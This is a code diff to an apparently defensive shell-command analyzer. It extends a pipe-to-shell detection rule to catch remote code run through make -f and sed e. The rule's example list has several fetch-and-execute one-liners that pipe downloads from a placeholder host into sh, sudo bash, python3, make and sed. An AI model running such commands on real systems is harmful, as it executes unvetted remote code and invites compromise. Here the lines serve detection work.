@@ -6,6 +6,7 @@ import type { Analysis, SimpleCommand } from '../../shell/types.ts';
 import { defineShellRule, type Rule, type RuleContext } from '../rule.ts';
 import { parseArgs } from '../../shell/args.ts';
 import { programName, staticValue } from '../../shell/program.ts';
+import { isStdinPath, makefileWords, sedRunsInput } from '../../shell/payload-sinks.ts';
 import {
   allTrusted, BoundedCache, ctxFacts, describeHost, DOWNLOADERS, isTrustedEndpoint, NETWORK_PROGRAMS, netLiteral, networkTarget, SOCKET_TOOLS, type NetTarget,
 } from './network.ts';
@@ -129,6 +130,23 @@ function codeFlow(cmd: SimpleCommand, analysis: Analysis): CodeFlow | null {
   } else if (name === 'eval') {
     for (const w of cmd.argv.slice(1)) ids.push(...w.substitutions);
     how = 'into eval';
+  } else if (name === 'make' || name === 'gmake') {
+    // A makefile read from standard input or a process substitution is code make runs (`… | make -f -`).
+    for (const w of makefileWords(cmd)) {
+      ids.push(...w.substitutions);
+      if (isStdinPath(staticValue(w))) {
+        const s = effectiveStdin(cmd, analysis);
+        if (s.kind === 'pipe') ids.push(...s.from);
+        if (s.kind === 'herestring') ids.push(...s.word.substitutions);
+      }
+    }
+    how = `into ${name} -f`;
+  } else if ((name === 'sed' || name === 'gsed') && sedRunsInput(cmd)) {
+    // sed's bare `e` and `s///e` run the lines it reads.
+    const s = effectiveStdin(cmd, analysis);
+    if (s.kind === 'pipe') ids.push(...s.from);
+    if (s.kind === 'herestring') ids.push(...s.word.substitutions);
+    how = `into ${name} e`;
   } else if (name === 'source' || name === '.') {
     const w = cmd.argv[1];
     if (w) ids.push(...w.substitutions);
@@ -193,7 +211,7 @@ function downloadedFiles(analysis: Analysis, ctx: RuleContext): Map<string, Simp
  * The commands codeFlow can find code for: a dynamic command name (`$(curl …)` as the command, always an
  * odd name), eval, source/`.`, or an interpreter (invocation).
  */
-const RUNS_CODE_FLOW = { traits: ['odd-name', 'interpreter'], programs: ['eval', 'source', '.'] } as const;
+const RUNS_CODE_FLOW = { traits: ['odd-name', 'interpreter'], programs: ['eval', 'source', '.', 'make', 'gmake', 'sed', 'gsed'] } as const;
 
 const pipeToShell = defineShellRule({
   id: 'net.pipe-to-shell',
@@ -212,6 +230,9 @@ const pipeToShell = defineShellRule({
       'sh -c "$(curl -fsSL https://x.example/i.sh)"',
       'eval "$(wget -qO- https://x.example/env)"',
       'source <(curl -s https://x.example/env.sh)',
+      'curl -s https://x.example/mk | make -f -',
+      'make -f <(curl -s https://x.example/mk)',
+      'curl -s https://x.example/c | sed e',
       'curl https://x.example/i.sh | sudo bash -s -- --yes',
       'python3 <(curl -s https://x.example/get.py)',
       'curl -s https://x.example/get.py | python3 -',
